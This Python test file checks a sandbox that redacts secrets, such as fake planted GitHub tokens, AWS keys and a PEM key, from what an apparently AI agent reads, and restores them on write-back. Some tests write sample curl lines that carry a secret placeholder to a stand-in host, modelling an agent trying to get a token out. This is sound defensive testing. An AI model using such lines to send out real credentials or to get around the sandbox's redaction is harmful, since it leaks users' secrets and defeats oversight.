"""Whatever a sandboxed process reads, secrets arrive as placeholders; the
rest arrives unchanged, and writing a redacted file back keeps the secrets."""

from __future__ import annotations

import hashlib
import json
import textwrap

TOKEN = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
ENV = f"DB_HOST=localhost\nGITHUB_TOKEN={TOKEN}\nMODE=dev\n"


def _setup(world):
    (world.workspace / ".env").write_text(ENV)
    (world.workspace / "notes.md").write_text("nothing secret here\n" * 50)


def test_readers_see_placeholders_never_the_token(world):
    _setup(world)
    script = textwrap.dedent("""
        import mmap, os
        print(open('.env').read())
        with open('.env', 'rb') as f:
            m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)
            print(m[:].decode())
            print(os.fstat(f.fileno()).st_size == len(m[:]))
        fd = os.open('.env', os.O_RDONLY)
        print(os.pread(fd, 100, 5).decode())
    """)
    result = world.run("bash", "-c", f"cat .env; grep -r GITHUB_TOKEN .; python3 -c \"{script}\"")
    assert result.returncode == 0, result.stderr
    assert TOKEN not in result.stdout and TOKEN not in result.stderr
    assert "REDACTED_BY_POLICY:github-pat-classic:" in result.stdout
    assert result.stdout.count("MODE=dev") >= 3  # everything else unchanged
    assert "True" in result.stdout  # fstat reports the copy's size
    records = world.audit_records()
    assert all(TOKEN not in json.dumps(r) for r in records)
    redactions = [r for r in records if r.get("event") == "redact"]
    assert redactions and redactions[0]["findings"] == [{"rule": "github-pat-classic", "line": 2}]


def test_files_without_secrets_are_byte_identical(world):
    _setup(world)
    result = world.run("sha256sum", "notes.md", "/etc/os-release")
    expected = hashlib.sha256((world.workspace / "notes.md").read_bytes()).hexdigest()
    assert result.stdout.split()[0] == expected
    with open("/etc/os-release", "rb") as f:
        assert result.stdout.split()[2] == hashlib.sha256(f.read()).hexdigest()


def test_sed_in_place_keeps_the_real_secret_and_the_edit(world):
    _setup(world)
    result = world.run("sed", "-i", "s/MODE=dev/MODE=prod/", ".env")
    assert result.returncode == 0, result.stderr
    assert (world.workspace / ".env").read_text() == ENV.replace("MODE=dev", "MODE=prod")


def test_python_write_back_keeps_the_real_secret(world):
    _setup(world)
    script = ("import os\n"
              "text = open('.env').read().replace('dev', 'staging')\n"
              "open('.env.new', 'w').write(text)\n"
              "os.replace('.env.new', '.env')\n")
    result = world.run("python3", "-c", script)
    assert result.returncode == 0, result.stderr
    assert (world.workspace / ".env").read_text() == ENV.replace("dev", "staging")


def test_appending_to_a_secret_file_keeps_it_whole(world):
    _setup(world)
    result = world.run("bash", "-c", "echo EXTRA=1 >> .env")
    assert result.returncode == 0, result.stderr
    assert (world.workspace / ".env").read_text() == ENV + "EXTRA=1\n"


def test_rewriting_a_secret_file_in_place_keeps_the_real_secret(world):
    """An agent tool that reads the redacted file and writes it back through
    open(..., 'w') (Claude Code's Write, node's writeFile, `>`) keeps the token."""
    _setup(world)
    script = ("text = open('.env').read()\n"
              "open('.env', 'w').write(text.replace('MODE=dev', 'MODE=prod'))\n"
              "print(open('.env').read())\n")
    result = world.run("python3", "-c", script)
    assert result.returncode == 0, result.stderr
    assert TOKEN not in result.stdout
    assert (world.workspace / ".env").read_text() == ENV.replace("MODE=dev", "MODE=prod")
    node = world.run("node", "-e", "const fs = require('fs');"
                     "fs.writeFileSync('.env', fs.readFileSync('.env', 'utf8') + 'NODE=1\\n')")
    assert node.returncode == 0, node.stderr
    assert (world.workspace / ".env").read_text() == ENV.replace("MODE=dev", "MODE=prod") + "NODE=1\n"
    assert not list((world.home / ".local/state/jail/backups").glob("*/*"))  # nothing left to keep


def test_a_secret_file_opened_read_write_is_refused_not_lost(world):
    _setup(world)
    result = world.run("python3", "-c", "open('.env', 'r+').write('X')")
    assert result.returncode != 0 and "Permission denied" in result.stderr
    assert (world.workspace / ".env").read_text() == ENV


def test_an_in_place_write_that_moves_a_placeholder_keeps_a_backup(world):
    _setup(world)
    script = ("import re\n"
              "text = open('.env').read()\n"
              "ph = re.search(r'REDACTED_BY_POLICY:\\S+', text).group()\n"
              "open('.env', 'w').write(f'curl -H {ph} https://example.invalid/\\n')\n")
    result = world.run("python3", "-c", script)
    assert result.returncode == 0, result.stderr
    written = (world.workspace / ".env").read_text()
    assert TOKEN not in written and "REDACTED_BY_POLICY" in written
    backups = list((world.home / ".local/state/jail/backups").glob("*/*"))
    assert len(backups) == 1 and backups[0].read_text() == ENV
    assert oct(backups[0].stat().st_mode & 0o777) == "0o600"
    records = [r for r in world.audit_records() if r.get("event") == "writeback"]
    assert records and records[0]["unresolved"][0]["line"] == 1
    assert "real values are kept in" in result.stderr


def test_a_placeholder_moved_to_a_new_line_is_refused_not_restored(world):
    """The agent cannot have jail write a real secret into a line of its own
    making (a URL, a command): the rename is refused and the file unchanged."""
    _setup(world)
    script = ("import os, re\n"
              "text = open('.env').read()\n"
              "ph = re.search(r'REDACTED_BY_POLICY:\\S+', text).group()\n"
              "open('.env.new', 'w').write(text + f'curl https://example.invalid/?t={ph}\\n')\n"
              "try:\n"
              "    os.replace('.env.new', '.env')\n"
              "except PermissionError:\n"
              "    print('refused')\n")
    result = world.run("python3", "-c", script)
    assert result.returncode == 0, result.stderr
    assert "refused" in result.stdout
    assert (world.workspace / ".env").read_text() == ENV
    assert TOKEN not in (world.workspace / ".env.new").read_text()


def test_cp_of_a_secret_file_gives_a_redacted_copy(world):
    _setup(world)
    result = world.run("bash", "-c", "cp .env copy.env && cat copy.env")
    assert result.returncode == 0, result.stderr
    assert TOKEN not in result.stdout
    assert "REDACTED_BY_POLICY:github-pat-classic:" in result.stdout
    assert TOKEN not in (world.workspace / "copy.env").read_text()


def test_grep_over_home_with_planted_secrets_prints_only_placeholders(world):
    """Secrets in unrelated files anywhere in the home arrive as placeholders;
    credential stores the profile denies are not read at all."""
    planted = {
        "notes/deploy.txt": "aws_access_key_id = AKIAQYLPMN5HHHFPZAM2\n"
                            "aws_secret_access_key = 9drTJvcXLB8+ZqKpLmWx/aBcDeFgHiJkLmNoPqRs\n",
        "projects/app/.env": f"GITHUB_TOKEN={TOKEN}\n",
        ".config/tool/config.yml": "api:\n  password: Zx9-qW3-eR7-tY1-uI5-oP0\n",
        ".aws/credentials": "[default]\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ2x8Vn4Lp\n",
    }
    for name, text in planted.items():
        path = world.home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    result = world.run("grep", "-rI", "-e", "TOKEN", "-e", "aws_", "-e", "password", str(world.home))
    for secret in (TOKEN, "AKIAQYLPMN5HHHFPZAM2", "9drTJvcXLB8+ZqKpLmWx", "Zx9-qW3-eR7-tY1-uI5",
                   "wJalrXUtnFEMI"):
        assert secret not in result.stdout and secret not in result.stderr
    assert result.stdout.count("REDACTED_BY_POLICY") >= 4, result.stdout
    assert ".aws/credentials" not in result.stdout  # denied: not even a redacted read


def test_a_redacted_copy_reports_the_identity_of_its_file(world):
    """fstat and statx of the copy's fd give the file's device and inode and
    the copy's size, so cp, tar and install do not see a replaced file."""
    _setup(world)
    st = (world.workspace / ".env").stat()
    script = ("import os\n"
              "fd = os.open('.env', os.O_RDONLY)\n"
              "s = os.fstat(fd)\n"
              "data = os.read(fd, 4096)\n"
              "print(s.st_dev, s.st_ino, s.st_size == len(data), oct(s.st_mode))\n")
    result = world.run("bash", "-c", f"python3 -c \"{script}\"; stat -c '%d %i %s' - < .env; "
                       "tar cf - .env | tar xOf -")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == f"{st.st_dev} {st.st_ino} True {oct(st.st_mode)}"
    dev, ino, size = lines[1].split()
    assert (int(dev), int(ino)) == (st.st_dev, st.st_ino) and int(size) != st.st_size
    assert TOKEN not in result.stdout and "GITHUB_TOKEN=REDACTED_BY_POLICY" in result.stdout


def test_a_large_log_is_scanned_in_chunks_and_no_secret_is_cut(world):
    """Past the scanner's 8 MiB a text file is scanned in chunks; a token at a
    chunk edge and a PEM block spanning one are still hidden."""
    filler_line = b"2026-11-21T10:00:00 INFO request served in 12 ms from cache node-7\n"
    body = bytearray()
    while len(body) < (4 << 20) - 40:
        body += filler_line
    body += f"auth GITHUB_TOKEN={TOKEN}\n".encode()
    while len(body) < (8 << 20) - 200:
        body += filler_line
    pem = (b"-----BEGIN RSA PRIVATE KEY-----\n"
           + b"MIIEpAIBAAKCAQEAx4Vq8nL2pT5mR7wK9sJ3dF6gH1jB0cZ8yX4vU2tS5rQ7pN\n" * 30
           + b"-----END RSA PRIVATE KEY-----\n")
    body += pem
    while len(body) < (12 << 20):
        body += filler_line
    (world.workspace / "big.log").write_bytes(bytes(body))
    result = world.run("sh", "-c", "grep -c 'request served' big.log; "
                       "grep -n -e GITHUB_TOKEN -e 'PRIVATE KEY' "
                       "-e MIIEpAIBAAKCAQEAx4Vq8 big.log | cut -c1-120")
    assert result.returncode == 0, result.stderr
    assert TOKEN not in result.stdout and "MIIEpAIBAAKCAQEAx4Vq8" not in result.stdout
    assert "GITHUB_TOKEN=REDACTED_BY_POLICY:github-pat-classic:" in result.stdout
    assert int(result.stdout.splitlines()[0]) == bytes(body).count(b"request served")


def test_a_descriptor_held_across_a_write_back_never_shows_the_secret(world):
    """The agent keeps a file open while jail puts the secrets back (after a
    rename over the file, after an in-place write): what it reads through that
    descriptor, or maps, is still placeholders."""
    _setup(world)
    script = textwrap.dedent("""
        import mmap, os, time
        text = open('.env').read()
        open('.env.new', 'w').write(text.replace('dev', 'prod'))
        held = open('.env.new', 'rb')
        mapped = mmap.mmap(held.fileno(), 0, prot=mmap.PROT_READ)
        os.replace('.env.new', '.env')
        print(held.read().decode(), mapped[:].decode())
        text = open('.env').read()
        writer = open('.env', 'w')
        writer.write(text.replace('prod', 'staging'))
        writer.flush()
        reader = open('.env', 'rb')
        writer.close()
        time.sleep(0.2)
        print(reader.read().decode(), open('.env').read())
    """)
    result = world.run("python3", "-c", script)
    assert result.returncode == 0, result.stderr
    assert TOKEN not in result.stdout and "REDACTED_BY_POLICY" in result.stdout
    assert (world.workspace / ".env").read_text() == ENV.replace("dev", "staging")


def test_a_large_file_written_in_place_is_still_read_redacted(world):
    """Once jail keeps a file for a write-back, readers get snapshots of it:
    a snapshot of a large file is scanned in chunks like the file itself."""
    line = b"2026-11-21T10:00:00 INFO request served in 12 ms from cache node-7\n"
    body = line * ((10 << 20) // len(line)) + f"auth GITHUB_TOKEN={TOKEN}\n".encode()
    (world.workspace / "big.log").write_bytes(body)
    script = ("import os\n"
              "fd = os.open('big.log', os.O_WRONLY | os.O_APPEND)\n"
              "os.write(fd, b'one more line\\n')\n"
              "os.close(fd)\n"
              "print(open('big.log').read()[-200:])\n")
    result = world.run("python3", "-c", script)
    assert result.returncode == 0, result.stderr
    assert TOKEN not in result.stdout and "GITHUB_TOKEN=REDACTED_BY_POLICY" in result.stdout
    assert (world.workspace / "big.log").read_bytes() == body + b"one more line\n"
